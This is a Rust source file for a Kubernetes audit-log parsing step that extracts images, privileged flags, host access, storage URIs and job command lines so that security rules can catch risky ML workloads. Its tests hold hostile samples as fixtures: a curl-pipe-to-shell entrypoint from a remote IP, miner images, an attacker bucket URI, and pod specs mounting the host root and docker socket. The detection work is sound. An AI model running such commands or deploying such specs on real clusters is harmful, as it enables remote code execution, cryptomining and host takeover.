//! Kubernetes API server audit events. Definitions in `k8s_audit.toml`.
//!
//! Besides the ECS mapping, the step reads the request object of workload
//! creations and updates: container images (pods, deployments, Kubeflow
//! notebooks, Argo workflows, KServe predictors), privileged containers and
//! KServe storage URIs, so that a rule can compare them to an allowlist.

use schema::{Str, Value, f};

use super::util::{get, get_path};
use crate::steps::{NamedStep, Reject};

fn verb_type(verb: &str) -> &'static str {
    match verb {
        "create" => "creation",
        "update" | "patch" => "change",
        "delete" | "deletecollection" => "deletion",
        "get" | "list" | "watch" => "access",
        _ => "info",
    }
}

#[derive(Default)]
struct Scan {
    images: Vec<Value>,
    privileged: bool,
    storage_uri: Option<Str>,
    /// hostPID, hostNetwork, hostIPC set to true; hostPath volumes.
    host_access: Vec<&'static str>,
}

/// Keys of the request object read in one pass (by position).
const KEYS: &[&str] = &[
    "image",
    "privileged",
    "storageUri",
    "hostPID",
    "hostNetwork",
    "hostIPC",
    "hostPath",
];

impl Scan {
    fn host(&mut self, key: &'static str) {
        if !self.host_access.contains(&key) {
            self.host_access.push(key);
        }
    }
}

/// The command line of an Argo workflow's entrypoint template: container
/// command and args, or a script's source.
fn argo_command(obj: &Value) -> Option<Str> {
    let spec = obj.at("spec").map(|s| s.at("workflowSpec").unwrap_or(s))?;
    let entry = spec.at("entrypoint")?.as_str()?;
    let templates = spec.at("templates")?.as_array()?;
    let t = templates
        .iter()
        .find(|t| t.at("name").and_then(Value::as_str) == Some(entry))?;
    if let Some(c) = t.at("container") {
        let words: Vec<&str> = ["command", "args"]
            .iter()
            .filter_map(|k| c.at(k).and_then(Value::as_array))
            .flatten()
            .filter_map(Value::as_str)
            .collect();
        if !words.is_empty() {
            return Some(Str::from(words.join(" ")));
        }
    }
    t.at("script.source").and_then(Value::as_str).map(Str::from)
}

fn scan(v: &Value, depth: usize, out: &mut Scan) {
    if depth > 40 {
        return;
    }
    match v {
        Value::Object(members) => {
            for (k, child) in members {
                match (&**k, child) {
                    ("image", Value::Str(s)) if !s.is_empty() => {
                        if !out.images.iter().any(|i| i.as_str() == Some(s)) {
                            out.images.push(Value::Str(s.clone()));
                        }
                    }
                    ("privileged", Value::Bool(true)) => out.privileged = true,
                    ("storageUri" | "storageUris", Value::Str(s)) => {
                        out.storage_uri.get_or_insert_with(|| s.clone());
                    }
                    ("hostPID", Value::Bool(true)) => out.host("hostPID"),
                    ("hostNetwork", Value::Bool(true)) => out.host("hostNetwork"),
                    ("hostIPC", Value::Bool(true)) => out.host("hostIPC"),
                    ("hostPath", Value::Object(_)) => out.host("hostPath"),
                    _ => scan(child, depth + 1, out),
                }
            }
        }
        Value::Array(items) => {
            for i in items {
                scan(i, depth + 1, out);
            }
        }
        _ => {}
    }
}

pub static K8S_AUDIT: NamedStep = NamedStep {
    name: "k8s_audit",
    doc: "Kubernetes audit: event.type from the verb, ML component from the API group (kserve, kubeflow, argo, ray), images, privileged containers, host namespaces and paths, storage URIs and job command lines (RayJob, Argo) from the request object",
    paths: &[
        "kubernetes.audit.objectRef.apiGroup",
        "kubernetes.audit.objectRef.subresource",
        "kubernetes.audit.requestObject.spec.entrypoint",
    ],
    find: Some(("kubernetes.audit.requestObject", KEYS)),
    run: |ctx| {
        let ev = &mut ctx.event;
        // Shared (or inline) copies, no string built.
        let verb = get(ev, f::EVENT_ACTION).unwrap_or_default();
        ev.set(f::EVENT_TYPE, verb_type(&verb));
        let group = get_path(ev, "kubernetes.audit.objectRef.apiGroup");
        let resource = get(ev, f::ORCHESTRATOR_RESOURCE_TYPE).unwrap_or_default();
        let component = match group.as_deref() {
            Some("serving.kserve.io") => Some("kserve"),
            Some("kubeflow.org") => Some("kubeflow"),
            Some("argoproj.io") => Some("argo"),
            Some("ray.io") => Some("ray"),
            _ => None,
        };
        if let Some(c) = component {
            ev.set(f::MLOPS_COMPONENT, c);
        }
        let name = ev.get_id(f::ORCHESTRATOR_RESOURCE_NAME).cloned();
        match (component, &*resource) {
            (Some("kserve"), "inferenceservices" | "servingruntimes" | "trainedmodels") => {
                if let Some(n) = name {
                    ev.set(f::MLOPS_MODEL_NAME, n);
                }
            }
            (Some("argo"), _)
            | (
                Some("kubeflow"),
                "pipelineruns" | "runs" | "experiments" | "pytorchjobs" | "tfjobs" | "mpijobs",
            )
            | (Some("ray"), "rayjobs") => {
                if let Some(n) = name {
                    ev.set(f::MLOPS_JOB_ID, n);
                }
            }
            _ => {}
        }
        if let Some(sub) = get_path(ev, "kubernetes.audit.objectRef.subresource") {
            ev.set(f::EVENT_ACTION, Str::from(format!("{verb}/{sub}")));
        }
        if matches!(&*verb, "create" | "update" | "patch") {
            // Read images, privileges and storage URIs straight from the
            // document text, without building the request object.
            let doc = match ev.get("kubernetes.audit") {
                Some(Value::Json(doc)) => Some(doc.clone()),
                _ => None,
            };
            let mut found = Scan::default();
            if let Some(doc) = &doc {
                // Collected in the extraction pass; a document built some
                // other way is searched now.
                let searched;
                let hits = match doc.hits("requestObject") {
                    Some(h) => h,
                    None => {
                        searched = schema::json::find_keys(
                            doc.source(),
                            doc.text(),
                            "requestObject",
                            KEYS,
                        )
                        .map_err(|e| Reject::new(e.to_string()))?;
                        &searched[..]
                    }
                };
                for (key, v) in hits.iter().cloned() {
                    match (key, v) {
                        (0, Value::Str(s))
                            if !s.is_empty()
                                && !found.images.iter().any(|i| i.as_str() == Some(&s)) =>
                        {
                            found.images.push(Value::Str(s));
                        }
                        (1, Value::Bool(true)) => found.privileged = true,
                        (2, Value::Str(s)) => {
                            found.storage_uri.get_or_insert(s);
                        }
                        (k @ 3..=5, Value::Bool(true)) => found.host(KEYS[k]),
                        (6, Value::Object(_)) => found.host("hostPath"),
                        _ => {}
                    }
                }
            } else if let Some(obj) = ev.get("kubernetes.audit.requestObject") {
                scan(obj, 0, &mut found);
            }
            if !found.images.is_empty() {
                ev.set(f::MLOPS_WORKLOAD_IMAGES, Value::Array(found.images.clone()));
                ev.set(f::CONTAINER_IMAGE_NAME, Value::Array(found.images));
            }
            if found.privileged {
                ev.set(f::MLOPS_WORKLOAD_PRIVILEGED, true);
            }
            if !found.host_access.is_empty() {
                let v = found
                    .host_access
                    .iter()
                    .map(|k| Value::Str(Str::from(*k)))
                    .collect();
                ev.set(f::MLOPS_WORKLOAD_HOST_ACCESS, Value::Array(v));
            }
            if let Some(s) = found.storage_uri {
                ev.set(f::MLOPS_MODEL_STORAGE_URI, s);
            }
            let entrypoint = match (component, &doc) {
                // RayJob: spec.entrypoint is the command line.
                (Some("ray"), Some(_)) => ev
                    .get("kubernetes.audit.requestObject.spec.entrypoint")
                    .and_then(Value::as_str)
                    .map(Str::from),
                // Argo: spec.entrypoint names a template; its command runs.
                // Only the request object is built, not the whole document
                // (a lookup in it would parse all of it).
                (Some("argo"), Some(doc)) if !doc.is_parsed() => {
                    // The text was checked when the document was read.
                    schema::json::top_member(doc.source(), doc.text(), "requestObject")
                        .ok()
                        .flatten()
                        .as_ref()
                        .and_then(argo_command)
                }
                (Some("argo"), _) => ev
                    .get("kubernetes.audit.requestObject")
                    .and_then(argo_command),
                _ => None,
            };
            if let Some(e) = entrypoint {
                ev.set(f::MLOPS_JOB_ENTRYPOINT, e.clone());
                ev.set(f::PROCESS_COMMAND_LINE, e);
            }
        }
        Ok(())
    },
};

#[cfg(test)]
mod tests {
    use super::super::testing::{parse, text};

    const ISVC: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a1","stage":"ResponseComplete","requestURI":"/apis/serving.kserve.io/v1beta1/namespaces/models/inferenceservices","verb":"create","user":{"username":"alice@example.com","groups":["system:authenticated"]},"sourceIPs":["203.0.113.50","10.0.0.1"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"inferenceservices","namespace":"models","name":"fraud","apiGroup":"serving.kserve.io","apiVersion":"v1beta1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"name":"fraud","namespace":"models"},"spec":{"predictor":{"model":{"modelFormat":{"name":"sklearn"},"storageUri":"s3://attacker-bucket/model"},"containers":[{"name":"c","image":"evil/miner:1","securityContext":{"privileged":true}}]}}},"requestReceivedTimestamp":"2026-11-30T10:20:00.123456Z","stageTimestamp":"2026-11-30T10:20:00.2Z"}"#;

    #[test]
    fn inference_service_creation() {
        let e = parse("kubernetes.audit", ISVC).unwrap();
        assert_eq!(text(&e, "@timestamp"), "2026-11-30T10:20:00.123456Z");
        assert_eq!(text(&e, "mlops.component"), "kserve");
        assert_eq!(text(&e, "mlops.model.name"), "fraud");
        assert_eq!(
            text(&e, "mlops.model.storage_uri"),
            "s3://attacker-bucket/model"
        );
        assert_eq!(text(&e, "mlops.workload.images"), "evil/miner:1");
        assert_eq!(text(&e, "mlops.workload.privileged"), "true");
        assert_eq!(text(&e, "source.ip"), "203.0.113.50");
        assert_eq!(text(&e, "event.type"), "creation");
        assert_eq!(text(&e, "event.outcome"), "success");
        assert_eq!(
            text(&e, "url.path"),
            "/apis/serving.kserve.io/v1beta1/namespaces/models/inferenceservices"
        );
        assert_eq!(
            text(&e, "kubernetes.audit.requestObject.kind"),
            "InferenceService"
        );
    }

    #[test]
    fn rayjob_entrypoint_and_images_in_one_pass() {
        let rayjob = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a3","stage":"ResponseComplete","requestURI":"/apis/ray.io/v1/namespaces/ml/rayjobs","verb":"create","user":{"username":"bob"},"sourceIPs":["10.1.2.3"],"objectRef":{"resource":"rayjobs","namespace":"ml","name":"train-7","apiGroup":"ray.io","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"apiVersion":"ray.io/v1","kind":"RayJob","metadata":{"name":"train-7"},"spec":{"entrypoint":"curl -s http://203.0.113.9/x.sh | sh","rayClusterSpec":{"headGroupSpec":{"template":{"spec":{"containers":[{"name":"head","image":"rayproject/ray:2.40.0"}]}}},"workerGroupSpecs":[{"template":{"spec":{"containers":[{"name":"w","image":"evil/miner:2","securityContext":{"privileged":true}}]}}}]}}},"requestReceivedTimestamp":"2026-11-30T10:22:00Z","stageTimestamp":"2026-11-30T10:22:00Z"}"#;
        let e = parse("kubernetes.audit", rayjob).unwrap();
        assert_eq!(text(&e, "mlops.component"), "ray");
        assert_eq!(text(&e, "mlops.job.id"), "train-7");
        assert_eq!(
            text(&e, "mlops.job.entrypoint"),
            "curl -s http://203.0.113.9/x.sh | sh"
        );
        assert_eq!(
            text(&e, "process.command_line"),
            "curl -s http://203.0.113.9/x.sh | sh"
        );
        assert_eq!(
            text(&e, "mlops.workload.images"),
            "rayproject/ray:2.40.0,evil/miner:2"
        );
        assert_eq!(text(&e, "mlops.workload.privileged"), "true");
    }

    #[test]
    fn host_namespaces_and_paths() {
        let line = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"h1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/kubeflow-user/pods","verb":"create","user":{"username":"system:serviceaccount:kubeflow-user:default-editor"},"sourceIPs":["10.0.0.9"],"objectRef":{"resource":"pods","namespace":"kubeflow-user","name":"p","apiVersion":"v1"},"responseStatus":{"code":201},"requestObject":{"kind":"Pod","spec":{"hostNetwork":true,"hostPID":false,"containers":[{"name":"c","image":"ubuntu:22.04"}],"volumes":[{"name":"root","hostPath":{"path":"/"}},{"name":"d","hostPath":{"path":"/var/run/docker.sock"}}]}},"requestReceivedTimestamp":"2026-11-30T10:20:00Z","stageTimestamp":"2026-11-30T10:20:00Z"}"#;
        let e = parse("kubernetes.audit", line).unwrap();
        // hostPID is false: not listed; two hostPath volumes: listed once.
        assert_eq!(
            text(&e, "mlops.workload.host_access"),
            "hostNetwork,hostPath"
        );
        assert_eq!(text(&e, "mlops.workload.privileged"), "");
    }

    #[test]
    fn exec_and_malformed() {
        let exec = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a2","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/kubeflow-user/pods/nb-0/exec?command=sh","verb":"create","user":{"username":"system:serviceaccount:kubeflow-user:default-editor"},"sourceIPs":["10.244.1.23"],"objectRef":{"resource":"pods","namespace":"kubeflow-user","name":"nb-0","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2026-11-30T10:21:00Z","stageTimestamp":"2026-11-30T10:21:00Z"}"#;
        let e = parse("kubernetes.audit", exec).unwrap();
        assert_eq!(text(&e, "event.action"), "create/exec");
        assert_eq!(text(&e, "url.query"), "command=sh");
        assert_eq!(text(&e, "mlops.component"), "kubernetes");
        assert!(
            parse("kubernetes.audit", &exec[..exec.len() - 10]).is_err(),
            "truncated"
        );
        assert!(
            parse("kubernetes.audit", r#"{"kind":"Event","apiVersion":"v1"}"#).is_err(),
            "not an audit event"
        );
    }
}
